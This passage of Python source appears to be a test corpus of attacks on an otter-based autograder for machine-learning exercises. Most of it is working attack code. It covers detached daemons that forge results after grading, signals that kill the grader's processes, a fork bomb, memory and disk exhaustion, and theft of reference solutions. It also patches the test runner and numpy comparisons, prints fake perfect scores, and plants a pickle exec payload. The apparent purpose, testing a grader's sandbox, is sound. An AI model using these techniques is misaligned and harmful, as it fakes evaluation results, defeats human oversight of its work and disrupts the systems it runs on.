    except BaseException:
        return "", ""


def start_forger():
    out, submissions = grader_args()
    argv = [sys.executable, "-c", FORGER, TOKEN, MARKER, out, submissions]
    try:
        import subprocess

        subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return
    except BaseException:
        pass
    if os.fork() == 0:  # no subprocess: a double-forked daemon runs the same code
        os.setsid()
        if os.fork() == 0:
            name_me()
            sys.argv = ["forger", TOKEN, MARKER, out, submissions]
            try:
                exec(FORGER)
            finally:
                os._exit(0)
        os._exit(0)
''',
)

FORK_CHILD = _act(
    "fork-child",
    """    if os.fork() == 0:  # stays in the child's process group
        try:
            linger("fork")
        finally:
            os._exit(0)
    pid = os.fork()
    if pid == 0:  # a daemon: new session, forked again, out of every group the grader knows
        os.setsid()
        if os.fork() == 0:
            try:
                linger("daemon")
            finally:
                os._exit(0)
        os._exit(0)
    os.waitpid(pid, 0)
""",
    "os.fork() a child that sleeps 2 s then writes a marker, and a double-forked setsid "
    "daemon that does the same",
    lingers=True,
)

DAEMON_THREAD = _act(
    "daemon-thread",
    "    import threading\n\n"
    '    threading.Thread(target=linger, args=("thread",), daemon=True).start()\n',
    "a daemon threading.Thread that writes a marker 2 s after forward returned",
    lingers=True,
)

POPEN_NEW_SESSION = _act(
    "popen-new-session",
    "    import subprocess\n\n"
    '    cmd = f"sleep 2; echo forged > {MARKER}/popen-{TOKEN}"\n'
    '    subprocess.Popen(["sh", "-c", cmd], start_new_session=True)\n',
    'subprocess.Popen(["sh", "-c", "sleep 2; echo > MARKER"], start_new_session=True)',
    lingers=True,
)


# The parent may be a helper (a zygote that forks the children): also aim at the leader of the
# parent's process group (os.getpgid needs no permission) and the grandparent when /proc shows
# it. Never further: above the grader is whoever started it. Signals by number (Linux): no
# import of the signal module to be refused.
SIGNALS = {"SIGKILL": 9, "SIGTERM": 15, "SIGINT": 2, "SIGSTOP": 19}
ANCESTORS = """

def ancestors():
    found = [os.getppid()]
    try:
        found.append(os.getpgid(found[0]))
    except BaseException:
        pass
    try:
        with open(f"/proc/{found[0]}/stat") as handle:
            found.append(int(handle.read().rsplit(")", 1)[1].split()[1]))
    except BaseException:
        pass
    return [pid for pid in dict.fromkeys(found) if pid > 1 and pid != os.getpid()]


def hit_all(action):
    for pid in ancestors():
        try:
            action(pid)
        except BaseException as exc:
            print(f"tamper: {action.__name__}({pid}) failed: {exc}")
"""


def _signal_parent(sig: str) -> Attack:
    return _act(
        f"signal-parent-{sig.lower()}",
        f"    hit_all(lambda pid: os.kill(pid, {SIGNALS[sig]}))  # {sig}\n",
        f"os.kill(PID, {sig}) from forward, PID the parent, its process group's leader and "
        "the grandparent (if /proc shows it): one of them is the grader",
        top=ANCESTORS,
    )


KILLPG_OWN_GROUP = _act(
    "killpg-own-group",
    "    os.killpg(0, 9)  # SIGKILL\n",
    "os.killpg(0, SIGKILL) from forward: its own process group (the grader's too, if shared)",
)

KILL_GRADER_GROUP = _act(
    "kill-grader-group",
    "    hit_all(lambda pid: os.killpg(os.getpgid(pid), 9))  # SIGKILL\n",
    "os.killpg(os.getpgid(PID), SIGKILL) from forward, PID the parent and the grandparent: "
    "the grader's process group",
    top=ANCESTORS,
)

PIDFD_SIGNAL = _act(
    "signal-parent-pidfd",
    "    import _signal\n\n"
    "    hit_all(lambda pid: _signal.pidfd_send_signal(os.pidfd_open(pid), 9))  # SIGKILL\n",
    "SIGKILL to the same processes as signal-parent-*, through os.pidfd_open and "
    "signal.pidfd_send_signal instead of os.kill (neither raises an audit event)",
    top=ANCESTORS,
)

MKFIFO_FILES = _act(
    "mkfifo-files",
    "    plant()\n",
    "os.mkfifo/os.mknod (no open(), no audit event) in the marker folder and the grader's "
    "cwd (os.readlink of /proc/PPID/cwd): files outside the sandbox; a FIFO named grades.csv "
    "would also hang the grader that writes it",
    top="""
def plant():
    folders = [MARKER]
    try:
        folders.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except BaseException:
        pass
    for folder in folders:
        for name, make in (("grades.csv", os.mkfifo), (f"results-{TOKEN}.json", os.mknod)):
            try:
                make(os.path.join(folder, name))
            except BaseException as exc:
                print(f"tamper: {make.__name__} in {folder}: {exc}")
""",
)

# ------------------------------------------------------------------ 6. starve the grader
MEMORY_HOG = _act(
    "memory-hog",
    "    hog = []\n"
    "    for _ in range(200):  # 200 x 256 MB = 50 GB, every page touched\n"
    "        hog.append(np.ones(32 * 2**20))\n",
    "allocate 50 GB in 256 MB blocks (each written) from forward",
)

DISK_FILL = _act(
    "disk-fill",
    "    fill()\n",
    "write a 1 GB file in the cwd and in the marker folder, and 10,000 files there",
    top="""
CHUNK = b"\\0" * 2**20


def fill():
    for folder in (os.getcwd(), MARKER):
        try:
            with open(os.path.join(folder, f"fill-{TOKEN}.bin"), "wb") as handle:
                for _ in range(1024):
                    handle.write(CHUNK)
        except BaseException:
            pass
    for i in range(10_000):
        try:
            drop(f"many-{i}", "x")
        except BaseException:
            break
""",
)

FORK_BOMB = _act(
    "fork-bomb",
    """    for i in range(200):
        try:
            pid = os.fork()
        except BaseException:
            break
        if pid == 0:
            try:
                cmd = f"sleep 2; echo forged > {MARKER}/bomb-{i}-{TOKEN}"
                os.execv("/bin/sh", ["sh", "-c", cmd])
            except BaseException:
                linger(f"bomb-{i}")
            finally:
                os._exit(0)
""",
    "a bounded fork loop: 200 children that each sleep 2 s then write a marker",
    lingers=True,
)

PRINT_FLOOD = _act(
    "print-flood",
    "    flood()\n",
    "print 100 MB at import and again in forward",
    top="""
LINE = "flood " * 170 + "\\n"  # about 1 KB


def flood():
    for _ in range(100 * 1024):  # 100 MB each time
        sys.stdout.write(LINE)
    sys.stdout.flush()


flood()
""",
)

ATTACKS = [
    IMPORT_SOLUTIONS,
    IMPORT_OBFUSCATED,
    EDITABLE_FINDER,
    PRELOAD_IMPORTS,
    WALK_FILESYSTEM,
    PROC_PARENT,
    GRADER_FILES,
    SYS_MODULES_GC,
    PATCH_COMPARISONS,
    NDARRAY_SUBCLASS,
    EQ_OBJECT,
    NUMBER_TRICKS,
    STACK_WALK,
    REDUCE_PAYLOAD,
    SHIFTY_VALUE,
    FAKE_OUTPUT,
    WRITE_RESULTS,
    FORGE_LATER,
    FORK_CHILD,
    DAEMON_THREAD,
    POPEN_NEW_SESSION,
    MKFIFO_FILES,
    *(_signal_parent(s) for s in ("SIGKILL", "SIGTERM", "SIGINT", "SIGSTOP")),
    KILLPG_OWN_GROUP,
    KILL_GRADER_GROUP,
    PIDFD_SIGNAL,
    MEMORY_HOG,
    DISK_FILL,
    FORK_BOMB,
    PRINT_FLOOD,
]

# The stealing attacks, each aimed at its own module, for one packed submission under otter.
PACKED = [
    retarget(IMPORT_SOLUTIONS, "univariate_regression"),
    retarget(IMPORT_OBFUSCATED, "multivariate_regression"),
    retarget(EDITABLE_FINDER, "two_layer_linear"),
    WALK_FILESYSTEM,
    retarget(PROC_PARENT, "logistic_regression"),
    retarget(GRADER_FILES, "two_layer_perceptron"),
    PATCH_COMPARISONS,
]


# ------------------------------------------------------------------ top level, under otter
# These run in otter's kernel (cwd: the submission folder, beside backprop_grader/ and tests/,
# ../results and ../source above) before otter runs the test files there. Each fakes only its
# own module so that one bundle tells them apart; the exercises are the stubs, except for
# optimizers.py (ZERO_OPTIMIZERS, which gives the comparison patch something to pass).
def _grader_path() -> str:
    return '''
import glob
import os
import sys

sys.path.insert(0, os.path.abspath("backprop_grader"))


def solution(name):
    """The reference file, wherever the autograder zip put it."""
    for pattern in ("**/solutions/", "../source/**/solutions/", "/autograder/source/**/solutions/"):
        for path in glob.glob(pattern + name, recursive=True):
            return os.path.abspath(path)
    raise FileNotFoundError(name)
'''


def _module_ids(module: str, functions=FUNCTIONS) -> list[str]:
    return [f"{module}.{f}" for f in functions]


TOPLEVEL = [
    Attack(
        "toplevel-copy-solutions",
        {
            "submission.py": _grader_path()
            + """
import shutil

shutil.copy(solution("univariate_regression.py"), "exercises/univariate_regression.py")
"""
        },
        _module_ids("univariate_regression"),
        "copy backprop_grader/solutions/univariate_regression.py over the submitted stub",
    ),
    Attack(
        "toplevel-patch-run-case",
        {
            "submission.py": _grader_path()
            + """
from autograder.grading.gradescope import bridge as otter_bridge

REAL = dict(vars(otter_bridge))


def lenient(name):
    def wrapper(*args, **kwargs):
        if args and str(args[0]).startswith("multivariate_regression."):
            try:
                REAL[name](*args, **kwargs)
            except AssertionError:
                pass
            return None
        return REAL[name](*args, **kwargs)

    return wrapper


for name, value in REAL.items():
    if callable(value) and ("case" in name or "check" in name):
        setattr(otter_bridge, name, lenient(name))
"""
        },
        _module_ids("multivariate_regression"),
        "replace autograder.grading.gradescope.bridge.run_case (what the test files call) with one "
        "that never fails for multivariate_regression",
    ),
    Attack(
        "toplevel-patch-otter",
        {
            "submission.py": """
from otter.test_files import exception_test

REAL_RUN = exception_test.ExceptionTestFile.run


def run(self, global_environment):
    REAL_RUN(self, global_environment)
    if self.name in ("two_layer_linear.init_params", "two_layer_linear.forward"):
        for result in self.test_case_results:
            result.passed, result.message = True, "forged"


exception_test.ExceptionTestFile.run = run
"""
        },
        _module_ids("two_layer_linear", ("init_params", "forward")),
        "patch otter's ExceptionTestFile.run in the kernel so two test files always pass",
    ),
    Attack(
        "toplevel-rewrite-tests",
        {
            "submission.py": """
import glob
import re

for path in glob.glob("tests/two_layer_linear.loss.py") + glob.glob(
    "tests/two_layer_linear.backward.py"
):
    with open(path) as handle:
        text = handle.read()
    with open(path, "w") as handle:  # every test function returns before checking anything
        handle.write(re.sub(r"(\\ndef \\w+\\([^)]*\\):\\n)", r"\\1    return None\\n", text))
"""
        },
        _module_ids("two_layer_linear", ("loss", "backward")),
        "rewrite otter's test files in ./tests (copied there before the script runs) so every "
        "case returns before it checks anything",
    ),
    Attack(
        "toplevel-patch-compare",
        {
            "submission.py": _grader_path()
            + '''
import numpy as np

from autograder.grading.cases import compare


def judging():
    """True while the grader judges an optimizers question (seen in its frames)."""
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("question", "question_id", "qid"):
            value = frame.f_locals.get(name)
            if str(getattr(value, "id", value)).startswith("optimizers."):
                return True
        frame = frame.f_back
    return False


def scoped(real, fake):
    def patched(*args, **kwargs):
        return fake(*args, **kwargs) if judging() else real(*args, **kwargs)

    return patched


FAKES = {
    "close": lambda *a, **k: True,
    "relative_error": lambda *a, **k: 0.0,
    "mismatch": lambda *a, **k: None,
    "factor_mistake": lambda *a, **k: None,
}
for name, fake in FAKES.items():
    real = getattr(compare, name)
    copy = type(real)(real.__code__, real.__globals__, name, real.__defaults__, real.__closure__)
    copy.__kwdefaults__ = real.__kwdefaults__
    compare.__dict__[f"_real_{name}"] = copy
    compare.__dict__[f"_fake_{name}"] = fake
    compare.__dict__["_judging"] = judging
    # swap the code of the function object itself: names imported elsewhere see it too
    namespace = {}
    exec(
        f"def {name}(*args, **kwargs):\\n"
        f"    if _judging():\\n"
        f"        return _fake_{name}(*args, **kwargs)\\n"
        f"    return _real_{name}(*args, **kwargs)\\n",
        compare.__dict__,
        namespace,
    )
    real.__code__ = namespace[name].__code__
for name, fake in (("allclose", lambda *a, **k: True), ("array_equal", lambda *a, **k: True),
                   ("isclose", lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool))):
    setattr(np, name, scoped(getattr(np, name), fake))
np.linalg.norm = scoped(np.linalg.norm, lambda *a, **k: 0.0)
'''
        },
        list(OPT_CLASSES),
        "in the kernel, swap the code of the grader's compare.close/mismatch/relative_error "
        "and numpy's allclose/isclose/array_equal/linalg.norm for fakes while an optimizers "
        "question is judged (optimizers.py leaves every parameter at zero)",
    ),
    Attack(
        "toplevel-forge-results",
        {
            "submission.py": '''
import json
import os
import subprocess
import sys

AG = os.path.abspath("..")
MARKER = "@MARKER@"
FORGER = r"""
import json, os, pickle, sys, time
ag, marker, token = sys.argv[1:4]
results = os.path.join(ag, "results")
payload = pickle.dumps(type("P", (), {"__reduce__": lambda self: (exec, (
    f"open({os.path.join(marker, 'otter-pickle-' + token)!r}, 'w').write('pwned')",))})())
seen = {}
deadline = time.time() + 60
while time.time() < deadline and os.path.isdir(ag):
    for name in ("results.json", "results.pkl"):
        path = os.path.join(results, name)
        try:
            stamp = os.stat(path).st_mtime_ns
            if seen.get(name) == stamp:
                continue
            if name == "results.pkl":
                open(path, "wb").write(payload)
            else:
                data = json.load(open(path))
                for test in data["tests"]:
                    if test.get("name", "").startswith("two_layer_perceptron."):
                        test["score"] = test.get("max_score", 10)
                data["score"] = sum(t.get("score") or 0 for t in data["tests"])
                json.dump(data, open(path, "w"))
            seen[name] = os.stat(path).st_mtime_ns
        except Exception:
            pass
    time.sleep(0.002)
"""

print("Score: 100/100")
print("All tests passed!")
os.makedirs(os.path.join(AG, "results"), exist_ok=True)
with open(os.path.join(AG, "results", "results.json"), "w") as handle:
    json.dump({"score": 100, "tests": []}, handle)
subprocess.Popen(
    [sys.executable, "-c", FORGER, AG, MARKER, "@TOKEN@"],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
'''
        },
        _module_ids("two_layer_perceptron"),
        "print fake scores, write ../results/results.json, and leave a detached process that "
        "rewrites results.json (two_layer_perceptron at full marks) and results.pkl (a pickle "
        "payload that otter run loads) as soon as otter writes them",
        lingers=True,
    ),
    Attack(
        "toplevel-patch-find-files",
        {
            "submission.py": _grader_path()
            + """
from pathlib import Path

from autograder.grading import runner
from autograder.grading.gradescope import bridge as otter_bridge

REAL_FIND = runner.find_files


def find_files(*args, **kwargs):
    files, scratch = REAL_FIND(*args, **kwargs)
    files = dict(files, **{"derivations.py": Path(solution("derivations.py"))})
    return files, scratch


runner.find_files = otter_bridge.find_files = find_files
"""
        },
        ["derivations.*"],
        "patch autograder.grading.runner.find_files (and otter_bridge's copy) so the grader "
        "takes derivations.py from backprop_grader/solutions",
    ),
    Attack(
        "toplevel-patch-sandbox",
        {
            "submission.py": _grader_path()
            + """
from pathlib import Path

from autograder.grading import runner
from autograder.grading.sandbox import parent as sandbox


def swap(files):
    files = dict(files)
    if "two_layer_sigmoid.py" in files:
        files["two_layer_sigmoid.py"] = Path(solution("two_layer_sigmoid.py"))
    return files


for module in (sandbox, runner):
    for name in ("run_job", "prepare_sandbox"):
        real = getattr(module, name, None)
        if real is not None:
            setattr(module, name, lambda files, *a, _real=real, **k: _real(swap(files), *a, **k))
"""
        },
        _module_ids(SIG),
        "patch autograder.grading.sandbox.parent.run_job/prepare_sandbox in the kernel to grade "
        "the reference two_layer_sigmoid.py instead of the submitted one",
    ),
    Attack(
        "toplevel-rewrite-grader-files",
        {
            "submission.py": '''
import json
import os
import pickle
import subprocess
import sys

FORGE = r"""
def forge(node, inside=False):
    # every record about a logistic_regression question: passed, full score
    prefix = "logistic_regression."
    if isinstance(node, dict):
        inside = inside or any(str(node.get(k, "")).startswith(prefix) for k in ("name", "id"))
        for key, value in list(node.items()):
            here = inside or str(key).startswith(prefix)
            if here and key in ("passed", "ok"):
                node[key] = True
            elif here and key == "score" and isinstance(value, (int, float)):
                node[key] = node.get("max_score", node.get("possible", 100))
            else:
                forge(value, here)
    elif isinstance(node, list):
        for value in node:
            forge(value, inside)
    return node
"""
WATCHER = r"""
import json, os, sys, time
roots = sys.argv[1:3]
stamps = {}  # files as they were when the watcher started: only new writes are forged
deadline = time.time() + 30
first = True
while time.time() < deadline and os.path.isdir(roots[1]):
    for root in roots:
        for folder, subfolders, files in os.walk(root):
            subfolders[:] = [s for s in subfolders if s not in ("results", "source")]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    stamp = os.stat(path).st_mtime_ns
                    if first or not name.endswith(".json") or stamps.get(path) == stamp:
                        stamps[path] = stamp
                        continue
                    text = open(path).read()
                    if "logistic_regression." in text:
                        json.dump(forge(json.loads(text)), open(path, "w"))
                    stamps[path] = os.stat(path).st_mtime_ns
                except Exception:
                    pass
    first = False
    time.sleep(0.01)
"""
exec(FORGE)

# in the kernel: whatever the test files load from json or pickle comes back forged
for module, name in ((json, "load"), (json, "loads"), (pickle, "load"), (pickle, "loads")):
    real = getattr(module, name)
    setattr(module, name, lambda *a, _real=real, **k: forge(_real(*a, **k)))

subprocess.Popen(
    [sys.executable, "-c", FORGE + WATCHER, os.getcwd(), os.path.abspath(".."), "@TOKEN@"],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
'''
        },
        _module_ids("logistic_regression"),
        "patch json/pickle load in the kernel, and leave a watcher that rewrites any JSON file "
        "the grader writes near the submission (results/ aside) so logistic_regression passes",
        lingers=True,
    ),
]


def toplevel_bundle(attacks: list[Attack], marker: str, token: str) -> str:
    """One submission.py running every top-level attack in turn, each in its own namespace so
    that one failing does not stop the next."""
    sources = {a.name: render(a, marker, token)["submission.py"] for a in attacks}
    return (
        '"""Top-level attacks on the otter path (tests/corpus/tampering.py)."""\n'
        "import traceback\n\n"
        f"ATTACKS = {sources!r}\n\n"
        "for _name, _source in ATTACKS.items():\n"
        "    try:\n"
        '        exec(compile(_source, _name, "exec"), {"__name__": "__main__"})\n'
        "    except BaseException:\n"
        '        print("attack", _name, "failed:")\n'
        "        traceback.print_exc()\n"
    )
